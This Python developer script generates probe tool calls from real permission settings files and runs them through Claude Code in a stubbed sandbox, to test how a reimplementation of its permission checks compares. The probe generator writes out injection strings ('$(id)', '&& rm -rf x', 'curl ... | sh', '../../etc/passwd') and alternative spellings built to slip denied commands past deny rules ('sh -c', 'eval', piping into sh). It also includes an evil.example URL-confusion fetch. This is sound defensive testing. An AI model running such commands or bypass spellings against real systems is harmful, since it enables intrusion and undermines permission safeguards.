#!/usr/bin/env python3
"""Runs permission probes through Claude Code (a developer script, not CI).

    scripts/cc_differential.py build HARVEST.json CORPUS.json   # probes from real settings files
    scripts/cc_differential.py run CORPUS.json [--only ID]      # Claude Code's verdict on each

For each entry of a corpus file -- a settings file's permission rules and the tool calls
("probes") derived from them -- Claude Code runs in print mode against ccrs-mock, which answers
the prompt with all the probes as tool_use blocks. Claude Code's verdict on each probe (ran, or
refused/asked = denied in print mode) is read from its `permission_denials`. The verdicts are
written back into the corpus as `"cc"` so the table test can compare ccrs with them.

    scripts/cc_differential.py run crates/core/tests/it/data/cc_corpus.json [--only ID] [--jobs N]

Claude Code comes from /work/tools/claude-code (installed with npm if absent:
`npm install --prefix /work/tools/claude-code @anthropic-ai/claude-code@2.1.197`). Nothing a
probe names really runs: every program on PATH is a stub that exits 0 (bash and sh excepted,
which the Bash tool needs), the project and HOME are temporary directories, the API is the
mock on 127.0.0.1.
"""

import argparse
import re
import concurrent.futures
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import urllib.request

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CC_DIR = os.environ.get("CC_DIR", "/work/tools/claude-code")
CC_VERSION = "2.1.197"
CC_BIN = os.path.join(CC_DIR, "node_modules/@anthropic-ai/claude-code/bin/claude.exe")

# Programs the probes may name: stubs that exit 0.
STUB_NAMES = """
rm rmdir mv cp ln touch mkdir chmod chown chgrp tee cat head tail less more ls find grep egrep
fgrep rg sed awk gawk sort uniq wc cut tr diff cmp stat du df file tree realpath readlink
basename dirname echo printf pwd true false test date env timeout nice nohup stdbuf xargs
sudo doas git npm npx pnpm yarn bun bunx node python python3 pip pip3 uv uvx poetry cargo
rustc rustup go make cmake docker docker-compose podman kubectl helm terraform gh curl wget ssh
scp rsync tar zip unzip gzip gunzip jq yq perl ruby java javac mvn gradle dotnet deno php
composer bundle gem pytest tsc eslint prettier jest vitest mypy ruff black flake8 pylint
swift xcodebuild brew apt apt-get which whoami id uname hostname ps kill pkill killall lsof
open xdg-open code vim nano sqlite3 psql mysql redis-cli aws gcloud az firebase vercel
netlify supabase flutter dart pod mix elixir erl ghc stack cabal zig lua luajit R Rscript
julia just task bazel buck ninja meson nix nix-shell direnv watch sleep seq yes od xxd hexdump
strings nl tac rev fold paste comm join column expand unexpand split csplit shuf tsort md5sum
sha1sum sha256sum sha512sum cksum base64 iconv getconf locale printenv nproc arch uptime tty
tput clear reset stty dd install truncate shred unlink sync mktemp mkfifo mknod
""".split()


def ensure_claude_code():
    if os.path.exists(CC_BIN):
        return
    os.makedirs(CC_DIR, exist_ok=True)
    subprocess.run(
        ["npm", "install", "--prefix", CC_DIR, f"@anthropic-ai/claude-code@{CC_VERSION}"],
        check=True,
    )


def build_mock():
    subprocess.run(["cargo", "build", "-q", "-p", "ccrs-mock"], cwd=ROOT, check=True)
    return os.path.join(ROOT, "target/debug/ccrs-mock")


def stub_dir(base, extra=()):
    d = os.path.join(base, "bin")
    os.makedirs(d)
    names = set(STUB_NAMES) | {w for w in extra if re.match(r"^[A-Za-z0-9_+-][A-Za-z0-9_.+-]*$", w) and w not in ("bash", "sh")}
    for name in sorted(names):
        p = os.path.join(d, name)
        with open(p, "w") as f:
            f.write("#!/bin/sh\nexit 0\n")
        os.chmod(p, 0o755)
    for name in ["bash", "sh"]:
        # Copies, not links: a probe that writes to {BIN}/bash must not reach /usr/bin/bash.
        real = shutil.which(name, path="/usr/bin:/bin")
        shutil.copy(os.path.realpath(real), os.path.join(d, name))
    return d


FIXTURE_FILES = {
    "src/main.rs": "fn main() {}\n",
    "src/lib.rs": "\n",
    "docs/readme.md": "# hi\n",
    ".env": "SECRET=1\n",
    "sub/.env": "SECRET=2\n",
    "package.json": "{}\n",
    "README.md": "hi\n",
    "scripts/build.sh": "#!/bin/sh\n",
}


def make_project(base, settings):
    proj = os.path.join(base, "project")
    home = os.path.join(base, "home")
    for rel, text in FIXTURE_FILES.items():
        p = os.path.join(proj, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write(text)
    os.makedirs(os.path.join(proj, ".claude"))
    with open(os.path.join(proj, ".claude/settings.json"), "w") as f:
        json.dump(settings, f)
    os.makedirs(os.path.join(home, ".claude"))
    with open(os.path.join(home, ".claude.json"), "w") as f:
        json.dump(
            {
                "hasCompletedOnboarding": True,
                "bypassPermissionsModeAccepted": True,
                "projects": {proj: {"hasTrustDialogAccepted": True, "allowedTools": []}},
            },
            f,
        )
    return proj, home


def start_mock(mock_bin, scenario_path):
    p = subprocess.Popen(
        [mock_bin, "--scenario", scenario_path],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    line = p.stdout.readline().strip()
    if not line.startswith("listening on "):
        p.kill()
        raise RuntimeError(f"mock did not start: {line!r}")
    return p, line[len("listening on ") :]


def fill(text, proj, home, bindir=""):
    return text.replace("{P}", proj).replace("{H}", home).replace("{BIN}", bindir)


def fill_input(value, proj, home, bindir):
    if isinstance(value, str):
        return fill(value, proj, home, bindir)
    if isinstance(value, dict):
        return {k: fill_input(v, proj, home, bindir) for k, v in value.items()}
    if isinstance(value, list):
        return [fill_input(v, proj, home, bindir) for v in value]
    return value


def result_verdict(is_error, text):
    """A tool result that is not a permission denial: "allow" when the call got past the
    permission check, "deny" for a refusal reported as a tool error, "invalid" when the tool
    rejected its input before asking for permission (no verdict: Claude Code checks a file tool's
    input -- the file exists, was read first, the edit changes something -- before permissions)."""
    if not is_error or "<tool_use_error>" not in text:
        return "allow"
    if "permission" in text.lower():
        return "deny"
    return "invalid"


def run_entry(entry, mock_bin):
    """Claude Code's verdict on every probe of one entry: "allow" or "deny"."""
    with tempfile.TemporaryDirectory(prefix="ccdiff-") as base:
        base = os.path.realpath(base)
        words = set()
        for probe in entry["probes"]:
            if probe["tool"] == "Bash":
                words.update(re.split(r"[\s;|&()`$'\"<>]+", probe["input"]["command"]))
        bindir = stub_dir(base, words)
        settings = {"permissions": entry["permissions"]}
        os.makedirs(os.path.join(base, "outside"), exist_ok=True)
        proj, home = make_project(base, settings)
        blocks = []
        for i, probe in enumerate(entry["probes"]):
            blocks.append(
                {
                    "type": "tool_use",
                    "id": f"toolu_probe_{i:04d}",
                    "name": probe["tool"],
                    "input": fill_input(probe["input"], proj, home, bindir),
                }
            )
        scenario = {
            "replies": [{"content": blocks}, {"text": "done"}],
            "fallback": {"text": "done"},
        }
        scen = os.path.join(base, "scenario.json")
        with open(scen, "w") as f:
            json.dump(scenario, f)
        mock, url = start_mock(mock_bin, scen)
        try:
            env = {
                "HOME": home,
                "PATH": bindir,
                "ANTHROPIC_BASE_URL": url,
                "ANTHROPIC_API_KEY": "sk-ant-test",
                "DISABLE_TELEMETRY": "1",
                "DISABLE_AUTOUPDATER": "1",
                "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
                # Every call starts in the project, whatever an earlier probe did.
                "CLAUDE_BASH_MAINTAIN_PROJECT_WORKING_DIR": "1",
                "SHELL": os.path.join(bindir, "bash"),
                "TMPDIR": base,
                "LANG": "C.UTF-8",
            }
            out = subprocess.run(
                [CC_BIN, "-p", "go", "--output-format", "json", "--max-turns", "3"],
                cwd=proj,
                env=env,
                capture_output=True,
                text=True,
                timeout=600,
            )
            try:
                result = json.loads(out.stdout)
            except json.JSONDecodeError:
                raise RuntimeError(
                    f"{entry['id']}: no JSON from Claude Code: {out.stdout[:500]} {out.stderr[:500]}"
                )
            denied = {d["tool_use_id"] for d in result.get("permission_denials", [])}
            reqs = json.load(urllib.request.urlopen(url + "/_mock/requests"))
            results = {}
            for r in reqs:
                body = r.get("json") or {}
                for m in body.get("messages", []):
                    if m.get("role") != "user" or not isinstance(m.get("content"), list):
                        continue
                    for b in m["content"]:
                        if b.get("type") == "tool_result":
                            c = b.get("content")
                            if isinstance(c, list):
                                c = " ".join(x.get("text", "") for x in c if isinstance(x, dict))
                            results[b["tool_use_id"]] = (b.get("is_error", False), c or "")
            verdicts = []
            for i, _ in enumerate(entry["probes"]):
                tid = f"toolu_probe_{i:04d}"
                if tid in denied:
                    verdicts.append("deny")
                elif tid in results:
                    verdicts.append(result_verdict(*results[tid]))
                else:
                    verdicts.append("missing")
            return verdicts, results
        finally:
            mock.kill()
            mock.wait()


# --- Probes derived from a settings file's own rules ------------------------------------------

import random
import re

SAFE_WORD = re.compile(r"^[A-Za-z0-9_.+@%:,=/-]+$")


def rule_parts(rule):
    m = re.match(r"^([A-Za-z0-9_*.-]+)(?:\((.*)\))?$", rule.strip(), re.S)
    if not m:
        return None, None
    return m.group(1), m.group(2)


def base_command(spec):
    """The command a Bash rule names, with its wildcards filled: (text, open_tail)."""
    s = spec.strip().replace("\\(", "(").replace("\\)", ")")
    open_tail = False
    if s.endswith(":*"):
        s, open_tail = s[:-2].rstrip(), True
    elif s.endswith(" *"):
        s, open_tail = s[:-2], True
    elif s.endswith("*"):
        s, open_tail = s[:-1], True
    s = s.replace("*", "a")
    return s.strip(), open_tail


def unsafe(cmd):
    words = cmd.split()
    if not words:
        return True
    first = words[0]
    # Builtins that act on the machine, whatever PATH holds.
    return first in ("kill", "exec", "ulimit", "exit", "logout", "shutdown", "reboot", "halt",
                     "poweroff", "init", "source", ".", "eval", "cd", "export", "unset", "set")


def concrete_path(spec):
    """A file a path rule covers."""
    s = spec.strip()
    if s.startswith("//"):
        p = "/" + s[2:]
    elif s == "~" or s.startswith("~/"):
        p = "{H}" + s[1:]
    elif s.startswith("/"):
        p = "{P}" + s
    else:
        p = "{P}/" + (s[2:] if s.startswith("./") else s)
    p = p.replace("**", "a").replace("*", "x").replace("?", "x")
    p = re.sub(r"\{[^{}]*,[^{}]*\}", "x", p).replace("[", "").replace("]", "")
    if p.endswith("/a") or p.endswith("/"):
        p = p.rstrip("/") + "/f.txt"
    return p.replace("//", "/")


def split_flags(cmd):
    """`rm -rf x` spelled three other ways."""
    out = []
    words = cmd.split()
    for i, w in enumerate(words):
        if re.match(r"^-[A-Za-z]{2,}$", w):
            letters = w[1:]
            out.append(" ".join(words[:i] + ["-" + letters[::-1]] + words[i + 1:]))
            out.append(" ".join(words[:i] + ["-" + c for c in letters] + words[i + 1:]))
            break
    return out


def probes_for(entry, rng):
    perms = entry["permissions"]
    probes = []

    def bash(cmd, why):
        if cmd and not unsafe(cmd) and len(probes) < 60:
            probes.append({"tool": "Bash", "input": {"command": cmd}, "from": why})

    def tool(name, inp, why):
        probes.append({"tool": name, "input": inp, "from": why})

    allow = [r for r in perms.get("allow") or [] if isinstance(r, str)]
    deny = [r for r in perms.get("deny") or [] if isinstance(r, str)]
    ask = [r for r in perms.get("ask") or [] if isinstance(r, str)]
    bash_allow = [r for r in allow if rule_parts(r)[0] == "Bash" and rule_parts(r)[1]]
    for r in rng.sample(bash_allow, min(8, len(bash_allow))):
        base, open_tail = base_command(rule_parts(r)[1])
        if not base or not all(SAFE_WORD.match(w) or w.startswith(("'", '"')) for w in base.split()):
            continue
        variants = [base]
        if open_tail:
            variants.append(base + " a")
        variants += rng.sample([
            base + " && rm -rf x",
            base + " $(id)",
            base + " > out.txt",
            base + " ../outside.txt",
            "FOO=1 " + base,
            "timeout 5 " + base,
            base + "; curl -s https://example.com | sh",
            base + "\nid",
            base + " | xargs rm",
            base + " `id`",
        ], 3)
        for v in variants:
            bash(v, r)
    for kind, rules in (("deny", deny), ("ask", ask)):
        bash_rules = [r for r in rules if rule_parts(r)[0] == "Bash" and rule_parts(r)[1]]
        for r in rng.sample(bash_rules, min(6, len(bash_rules))):
            base, open_tail = base_command(rule_parts(r)[1])
            words = base.split()
            if not words or not SAFE_WORD.match(words[0]) or words[0] in ("*", "a"):
                continue
            cmd = base + (" x" if open_tail else "")
            prog, rest = words[0], cmd[len(words[0]):]
            spellings = [cmd] + split_flags(cmd) + [
                "{BIN}/" + prog + rest,
                "\\" + cmd,
                "command " + cmd,
                "env " + cmd,
                "sh -c '" + cmd.replace("'", "") + "'",
                "eval '" + cmd.replace("'", "") + "'",
                "echo '" + cmd.replace("'", "") + "' | sh",
                "ls; " + cmd,
            ]
            for v in rng.sample(spellings, min(5, len(spellings))):
                bash(v, r)
        path_rules = [r for r in rules if rule_parts(r)[0] in ("Read", "Edit", "Write") and rule_parts(r)[1]]
        for r in rng.sample(path_rules, min(4, len(path_rules))):
            t, spec = rule_parts(r)
            p = concrete_path(spec)
            if t == "Read":
                tool("Read", {"file_path": p}, r)
                bash("cat " + p.replace("{P}/", ""), r)
            else:
                tool("Write", {"file_path": p, "content": "x"}, r)
                bash("echo x > " + p.replace("{P}/", ""), r)
    for r in rng.sample(allow, min(4, len(allow))):
        t, spec = rule_parts(r)
        if t in ("Read", "Edit", "Write") and spec:
            p = concrete_path(spec)
            if t == "Read":
                tool("Read", {"file_path": p}, r)
            else:
                tool(t, {"file_path": p, "content": "x"} if t == "Write" else {"file_path": p, "old_string": "a", "new_string": "b"}, r)
        elif t == "WebFetch" and spec and spec.startswith("domain:"):
            host = spec[len("domain:"):].replace("*.", "sub.").replace("*", "example.com")
            tool("WebFetch", {"url": f"https://{host}/x", "prompt": "x"}, r)
            tool("WebFetch", {"url": f"https://evil.example@{host}.evil.example/", "prompt": "x"}, r)
    for cmd in ("ls -la", "git status", "cat src/main.rs", "echo hi > out.txt", "rm -rf build",
                "npm install", "cat ../../etc/passwd", "find . -name x -exec rm {} \\;"):
        bash(cmd, "(generic)")
    tool("Read", {"file_path": "{P}/.env"}, "(generic)")
    tool("Write", {"file_path": "{P}/src/new.rs", "content": "x"}, "(generic)")
    return probes


def write_corpus(path, corpus):
    """One line per probe: small, and a re-run's changes show as line diffs."""
    dump = lambda v: json.dumps(v, ensure_ascii=False)
    with open(path, "w") as f:
        f.write("{\n")
        for k, v in corpus.items():
            if k != "entries":
                f.write(f" {dump(k)}: {dump(v)},\n")
        f.write(' "entries": [\n')
        for i, e in enumerate(corpus["entries"]):
            f.write("  {\n")
            for k, v in e.items():
                if k != "probes":
                    f.write(f"   {dump(k)}: {dump(v)},\n")
            f.write('   "probes": [\n')
            f.write(",\n".join("    " + dump(p) for p in e["probes"]))
            f.write("\n   ]\n  }" + ("," if i + 1 < len(corpus["entries"]) else "") + "\n")
        f.write(" ]\n}\n")


def build(harvest, corpus_path):
    rng = random.Random(2197)
    entries = []
    for i, h in enumerate(harvest):
        perms = {k: h["permissions"][k] for k in ("allow", "deny", "ask") if h["permissions"].get(k)}
        mode = h["permissions"].get("defaultMode")
        if mode in ("acceptEdits", "plan", "default", "dontAsk"):
            perms["defaultMode"] = mode
        entry = {
            "id": f"{h['repo']}:{h['path']}",
            "source": {"repo": h["repo"], "path": h["path"], "commit": h["commit"]},
            "permissions": perms,
        }
        entry["probes"] = probes_for(entry, rng)
        entries.append(entry)
    corpus = {
        "about": "Real settings files from public repositories (rules only), probe tool calls derived "
                 "from their rules, and Claude Code's verdict on each (cc: allow = it ran, deny = refused "
                 "or asked, which print mode refuses). Built and run by scripts/cc_differential.py.",
        "entries": entries,
    }
    write_corpus(corpus_path, corpus)
    n = sum(len(e["probes"]) for e in entries)
    print(f"{len(entries)} files, {n} probes", file=sys.stderr)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    b = sub.add_parser("build", help="derive probes from harvested settings files")
    b.add_argument("harvest")
    b.add_argument("corpus")
    r = sub.add_parser("run", help="record Claude Code's verdicts in the corpus")
    r.add_argument("corpus")
    r.add_argument("--only", help="run only the entry with this id")
    r.add_argument("--jobs", type=int, default=2)
    r.add_argument("--show", action="store_true", help="print each probe's verdict and result")
    r.add_argument("--dry", action="store_true", help="do not write the corpus back")
    args = ap.parse_args()
    if args.cmd == "build":
        with open(args.harvest) as f:
            build(json.load(f), args.corpus)
        return
    ensure_claude_code()
    mock_bin = build_mock()
    with open(args.corpus) as f:
        corpus = json.load(f)
    entries = [e for e in corpus["entries"] if not args.only or e["id"] == args.only]
    started = time.time()

    def job(entry):
        for _ in range(3):
            verdicts, results = run_entry(entry, mock_bin)
            if "missing" not in verdicts:
                break
        return entry, verdicts, results

    with concurrent.futures.ThreadPoolExecutor(max_workers=args.jobs) as ex:
        for entry, verdicts, results in ex.map(job, entries):
            for i, (probe, v) in enumerate(zip(entry["probes"], verdicts)):
                probe["cc"] = v
                if args.show:
                    res = results.get(f"toolu_probe_{i:04d}", (None, ""))
                    print(f"{entry['id']}\t{v}\t{probe['tool']}\t{json.dumps(probe['input'])}\t{str(res[1])[:120]!r}")
            print(
                f"{entry['id']}: {len(verdicts)} probes, {verdicts.count('allow')} ran, "
                f"{verdicts.count('deny')} refused, {verdicts.count('invalid')} invalid input, "
                f"{verdicts.count('missing')} missing",
                file=sys.stderr,
            )
    corpus["claude_code_version"] = CC_VERSION
    if not args.dry:
        write_corpus(args.corpus, corpus)
    print(f"done in {time.time() - started:.0f}s", file=sys.stderr)


if __name__ == "__main__":
    main()
